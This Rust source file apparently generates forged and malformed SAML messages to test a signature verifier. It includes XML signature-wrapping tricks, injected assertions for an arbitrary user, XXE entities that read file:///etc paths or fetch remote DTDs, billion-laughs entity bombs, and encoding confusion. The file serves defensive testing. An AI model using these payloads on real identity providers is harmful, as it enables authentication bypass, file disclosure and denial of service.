//! Below the signature: what was altered, and what parsers read in two ways or work on without end.

use crate::carriage::{Encoding, Forgery, Paper};
use crate::message::{Genuine, SAML, SAMLP, Said};
use crate::{Draw, Stage};

/// Something in a name whose digest stays right where it is left out.
fn in_name(draw: &mut Draw, stage: &Stage, split: &str) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let at = draw.below(genuine.name.len() + 1);
    let (before, after) = genuine.name.split_at(at);
    Paper::owned(genuine.renamed(&genuine.signed, &format!("{before}{split}{after}"))).into()
}

/// A comment in a name: the digest is right, and half of the name is read.
pub(crate) fn comments(draw: &mut Draw, stage: &Stage) -> Forgery {
    let split = match draw.below(3) {
        0 => "<!---->".to_owned(),
        1 => format!("<!--{}-->", draw.word()),
        _ => format!("<!-- {} --><!---->", draw.word()),
    };
    in_name(draw, stage, &split)
}

/// The same with what else parsers leave out.
pub(crate) fn splits(draw: &mut Draw, stage: &Stage) -> Forgery {
    let split = match draw.below(3) {
        0 => format!("<![CDATA[{}]]>", draw.pick(&["", " ", "]"])),
        1 => format!("<?{}?>", draw.word()),
        _ => format!("<?{} {}?>", draw.word(), draw.word()),
    };
    in_name(draw, stage, &split)
}

/// Nothing but another name, or another attribute.
pub(crate) fn changed(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let signed = &genuine.signed;
    let text = match draw.below(4) {
        0 => genuine.renamed(signed, &draw.word()),
        1 => genuine.renamed(signed, &stage.evil(draw)),
        2 => signed.replacen(
            " Version=",
            &format!(" Consent=\"{}\" Version=", draw.word()),
            1,
        ),
        _ => signed.replacen(
            "<samlp:Extensions>",
            &format!("<samlp:Extensions><x xmlns=\"urn:{}\"/>", draw.word()),
            1,
        ),
    };
    Paper::of(text).into()
}

fn encrypted_element(draw: &mut Draw) -> String {
    let value = draw.word();
    format!(
        "<xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\" Type=\"http://www.w3.org/2001/04/xmlenc#Element\"><xenc:EncryptionMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#aes128-cbc\"/><xenc:CipherData><xenc:CipherValue>{value}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>"
    )
}

/// An assertion, for whom anybody likes.
pub(crate) fn assertion(draw: &mut Draw, stage: &Stage) -> String {
    let name = stage.evil(draw);
    format!(
        "<saml:Assertion {SAML} ID=\"_{}\" Version=\"2.0\" IssueInstant=\"{}\"><saml:Issuer>{}</saml:Issuer><saml:Subject><saml:NameID>{name}</saml:NameID><saml:SubjectConfirmation Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\"><saml:SubjectConfirmationData InResponseTo=\"{}\" Recipient=\"{}\"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions><saml:AudienceRestriction><saml:Audience>{}</saml:Audience></saml:AudienceRestriction></saml:Conditions></saml:Assertion>",
        draw.word(),
        stage.time(0),
        stage.issuer,
        stage.asked,
        stage.consumer,
        stage.other,
    )
}

/// An assertion, encrypted or not, put into what was signed.
pub(crate) fn encrypted(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let inside = match draw.below(4) {
        0 => assertion(draw, stage),
        1 => format!(
            "<saml:EncryptedID {SAML}>{}</saml:EncryptedID>",
            encrypted_element(draw)
        ),
        2 => encrypted_element(draw),
        _ => format!(
            "<saml:EncryptedAssertion {SAML}>{}</saml:EncryptedAssertion>",
            encrypted_element(draw)
        ),
    };
    let end = genuine.said.end();
    let marks = [
        "<samlp:Extensions>",
        "</samlp:Extensions>",
        &end,
        "<saml:Issuer ",
    ];
    let mark = draw.pick(&marks);
    let instead = match mark {
        "<samlp:Extensions>" => format!("{mark}{inside}"),
        _ => format!("{inside}{mark}"),
    };
    let text = genuine.signed.replacen(mark, &instead, 1);
    // In place of the name that is there, too.
    let named = format!("<saml:NameID>{}</saml:NameID>", genuine.name);
    let text = match draw.below(3) {
        0 if text.contains(&named) => text.replace(&named, ""),
        _ => text,
    };
    Paper::of(text).into()
}

/// One parser sees one thing, another another.
pub(crate) fn differences(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let signed = &genuine.signed;
    let evil = stage.evil(draw);
    let word = draw.word();
    let renamed = |name: &str| genuine.renamed(signed, name);
    let root = format!("<samlp:{} ", genuine.said.element);
    let end = genuine.said.end();
    let text = match draw.below(20) {
        // A second root, or something after the root.
        0 => format!("{signed}{}", genuine.renamed(&genuine.plain, &evil)),
        1 => format!("{signed}{word}"),
        2 => format!("{signed}<!--{word}-->"),
        3 => format!("<?{word}?>{signed}"),
        4 => format!("{signed}\u{0}{word}"),
        // One attribute twice, or in two ways.
        5 => signed.replacen(&root, &format!("{root}ID=\"_{word}\" "), 1),
        6 => signed.replacen(&root, &format!("{root}id=\"{}\" ", genuine.id), 1),
        7 => signed.replacen(" Version=", &format!(" Destination=\"{word}\" Version="), 1),
        8 => signed.replacen(
            &root,
            &format!("{root}xmlns:p=\"{SAMLP}\" samlp:a=\"{word}\" p:a=\"\" "),
            1,
        ),
        // Characters that XML has not.
        9 => renamed(&format!("{word}&#0;")),
        10 => renamed(&format!(
            "{word}&#x{};",
            draw.pick(&["1", "8", "fffe", "d800", "110000"])
        )),
        11 => renamed(&format!("{word}\u{1}")),
        12 => renamed(&format!("{word}]]>")),
        // Tags that do not fit.
        13 => signed.replace(&end, &format!("</samlp:{word}>")),
        14 => signed.replacen(
            "<samlp:Extensions>",
            &format!("<samlp:Extensions {word}>"),
            1,
        ),
        15 => signed.replacen(
            "<samlp:Extensions>",
            &format!("<samlp:Extensions {word}=a>"),
            1,
        ),
        16 => signed.replacen(
            "<samlp:Extensions>",
            &format!("<samlp:Extensions a=\"<{word}\">"),
            1,
        ),
        17 => signed.replace(&end, ""),
        18 => format!("{signed}{end}<!-- {word}"),
        _ => signed.replacen("<saml:Issuer", &format!("{word}<saml:Issuer"), 1),
    };
    Paper::owned(text).into()
}

/// Names that namespaces give another meaning.
pub(crate) fn names(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let evil = stage.evil(draw);
    let text = genuine.renamed(&genuine.signed, &evil);
    let word = draw.word();
    let ds = "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"";
    let root = format!("<samlp:{} ", genuine.said.element);
    let text = match draw.below(9) {
        0 => text.replace(ds, &format!("xmlns:ds=\"urn:{word}\"")),
        1 => text.replace(
            "<ds:SignedInfo>",
            &format!("<ds:SignedInfo xmlns:ds=\"urn:{word}\">"),
        ),
        2 => text.replace(&root, &format!("{root}xmlns:ds=\"\" ")),
        3 => text.replace(" ID=", " samlp:ID="),
        4 => text.replace("ds:Signature", "ds:signature"),
        5 => text.replace("<ds:Signature ", "<ds:Signature Id=\"a\" xml:base=\"b\" "),
        6 => text.replace(SAMLP, &format!("{SAMLP} ")),
        7 => text.replace(SAMLP, &format!("urn:{word}")),
        _ => text.replace(
            "<samlp:Extensions>",
            &format!("<samlp:Extensions xmlns:samlp=\"urn:{word}\">"),
        ),
    };
    Paper::of(text).into()
}

/// A name that stands for something else, in a message of the owner.
fn declared(draw: &mut Draw, stage: &Stage, name: &str, declared: &str) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let word = draw.word();
    let root = format!("samlp:{}", genuine.said.element);
    let head = match draw.below(3) {
        0 => format!("<!DOCTYPE {root} [{declared}]>"),
        1 => format!("<?xml version=\"1.0\"?>\n<!DOCTYPE {word} [{declared}]>\n"),
        _ => format!("<!DOCTYPE {root} SYSTEM \"http://{word}.example/\" [{declared}]>"),
    };
    let text = match draw.coin() {
        true => genuine.signed,
        false => genuine.renamed(&genuine.signed, &format!("&{name};")),
    };
    Paper::owned(text).after(head).into()
}

/// Document types, and entities from elsewhere.
pub(crate) fn document_types(draw: &mut Draw, stage: &Stage) -> Forgery {
    let (name, evil) = (draw.word(), draw.word());
    let said = match draw.below(8) {
        0 => format!("<!ENTITY {name} \"{evil}\">"),
        1 => format!("<!ENTITY {name} SYSTEM \"file:///etc/{evil}\">"),
        2 => format!("<!ENTITY % {name} SYSTEM \"http://{evil}.example/a.dtd\"> %{name};"),
        3 => format!("<!ENTITY {name} PUBLIC \"-//{evil}\" \"http://{evil}.example/a\">"),
        4 => format!(
            "<!ENTITY {name} SYSTEM \"php://filter/read=convert.base64-encode/resource={evil}\">"
        ),
        5 => format!(
            "<!ATTLIST samlp:{} {name} CDATA \"{evil}\">",
            stage.kind.as_str()
        ),
        6 => format!("<!ATTLIST saml:NameID ID ID \"{evil}\">"),
        _ => format!("<!NOTATION {name} SYSTEM \"{evil}\">"),
    };
    declared(draw, stage, &name, &said)
}

/// Entities that grow.
pub(crate) fn bombs(draw: &mut Draw, stage: &Stage) -> Forgery {
    let (name, evil) = (draw.word(), draw.word());
    let (said, last) = match draw.below(3) {
        // Each ten of the one before.
        0 => {
            let levels = 3 + draw.below(9);
            let rows = (0..levels).map(|n| {
                let inside = format!("&{name}{n};").repeat(10);
                format!("<!ENTITY {name}{} \"{inside}\">", n + 1)
            });
            let rows: String = rows.collect();
            (format!("<!ENTITY {name}0 \"{evil}\">{rows}"), levels)
        }
        // A long one, often.
        1 => {
            let long = evil.repeat(500);
            let inside = format!("&{name}0;").repeat(500);
            (
                format!("<!ENTITY {name}0 \"{long}\"><!ENTITY {name}1 \"{inside}\">"),
                1,
            )
        }
        // One of itself.
        _ => (
            format!("<!ENTITY {name}0 \"&{name}1;\"><!ENTITY {name}1 \"&{name}0;\">"),
            1,
        ),
    };
    declared(draw, stage, &format!("{name}{last}"), &said)
}

/// Entities that nobody declared, which some parsers leave out.
pub(crate) fn entities(draw: &mut Draw, stage: &Stage) -> Forgery {
    let entity = format!("&{};", draw.word());
    in_name(draw, stage, &entity)
}

/// What says which encoding it is in.
fn saying(draw: &mut Draw, genuine: &Genuine, said: &str) -> Paper {
    let version = draw.pick(&["1.0", "1.0", "1.1"]);
    let prologue = format!("<?xml version=\"{version}\" encoding=\"{said}\"?>");
    Paper::owned(genuine.signed.clone()).after(prologue)
}

pub(crate) fn utf16(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let said = draw.pick(&[
        "UTF-16",
        "UTF-16LE",
        "UTF-16BE",
        "utf-16",
        "UCS-2",
        "ISO-10646-UCS-2",
    ]);
    let paper = match draw.below(3) {
        0 => Paper::owned(genuine.signed),
        _ => saying(draw, &genuine, said),
    };
    // Says so and is not, is and does not say so.
    if draw.below(5) == 0 && !paper.prologue.is_empty() {
        return paper.into();
    }
    let (is_big, has_mark) = (draw.coin(), draw.coin());
    paper.encoded(Encoding::Utf16 { is_big, has_mark }).into()
}

pub(crate) fn encodings(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    match draw.below(4) {
        0 => {
            let said = draw.pick(&["UTF-7", "utf-7", "unicode-1-1-utf-7"]);
            let paper = saying(draw, &genuine, said);
            paper.encoded(Encoding::Utf7).into()
        }
        1 => {
            let said = draw.pick(&["UTF-32", "UTF-32LE", "UTF-32BE", "UCS-4"]);
            let paper = saying(draw, &genuine, said);
            let (is_big, has_mark) = (draw.coin(), draw.coin());
            paper.encoded(Encoding::Utf32 { is_big, has_mark }).into()
        }
        // Says so, and is not.
        _ => {
            let said = draw.pick(&[
                "ISO-8859-1",
                "US-ASCII",
                "EBCDIC-CP-US",
                "Shift_JIS",
                "ISO-2022-JP",
                "UTF-7",
                "UTF-32",
                "utf8",
                "",
                "UTF-8\" encoding=\"UTF-7",
            ]);
            saying(draw, &genuine, said).into()
        }
    }
}

/// Overlong forms, halves of pairs, what is cut off.
pub(crate) fn not_utf8(draw: &mut Draw, stage: &Stage) -> Forgery {
    let octets: &[u8] = draw.pick(&[
        &[0xc0, 0xbc][..],
        &[0xe0, 0x80, 0xbc],
        &[0xf0, 0x80, 0x80, 0xbc],
        &[0xc0, 0x80],
        &[0xed, 0xa0, 0x80],
        &[0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80],
        &[0xf4, 0x90, 0x80, 0x80],
        &[0xf8, 0x88, 0x80, 0x80, 0x80],
        &[0xff],
        &[0xfe],
        &[0x80],
        &[0xe3, 0x81],
    ]);
    let name = format!("z{}", draw.word());
    let said = stage.said(&format!("_{}", draw.word()), &name);
    let text = said.signed(draw);
    Paper::owned(text)
        .encoded(Encoding::Octets(octets.to_vec()))
        .into()
}

/// Before a message there is none (and after it neither).
pub(crate) fn marks(draw: &mut Draw, stage: &Stage) -> Forgery {
    let genuine = Genuine::new(draw, stage);
    let mark: &[u8] = draw.pick(&[
        &[0xef, 0xbb, 0xbf][..],
        &[0xff, 0xfe],
        &[0xfe, 0xff],
        &[0xff, 0xfe, 0, 0],
        &[0x2b, 0x2f, 0x76, 0x38],
        &[0xdd, 0x73, 0x66, 0x73],
        &[0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf],
    ]);
    Paper::owned(genuine.signed)
        .encoded(Encoding::Mark(mark.to_vec()))
        .into()
}

/// Deeper, wider and longer than any message.
pub(crate) fn large(draw: &mut Draw, stage: &Stage) -> Forgery {
    let mut said: Said = stage.any(draw);
    let name = draw.word();
    said.extensions = match draw.below(8) {
        0..=2 => {
            let depth = 64 + draw.below(1_000);
            format!("<{name}>").repeat(depth) + &format!("</{name}>").repeat(depth)
        }
        3 => format!("<{name}>").repeat(70 + draw.below(3_000)),
        4..=6 => {
            let many = (0..65 + draw.below(300)).map(|n| format!(" {name}{n}=\"\""));
            format!("<{name}{}/>", many.collect::<String>())
        }
        _ => format!("<{name}>{}</{name}>", "a".repeat(128 * 1024)),
    };
    // Signed beside it if at all: what is that large has no canonical form.
    let genuine = Genuine::new(draw, stage);
    let signature = match draw.coin() {
        true => genuine.signature,
        false => String::new(),
    };
    Paper::owned(said.with(&signature)).into()
}
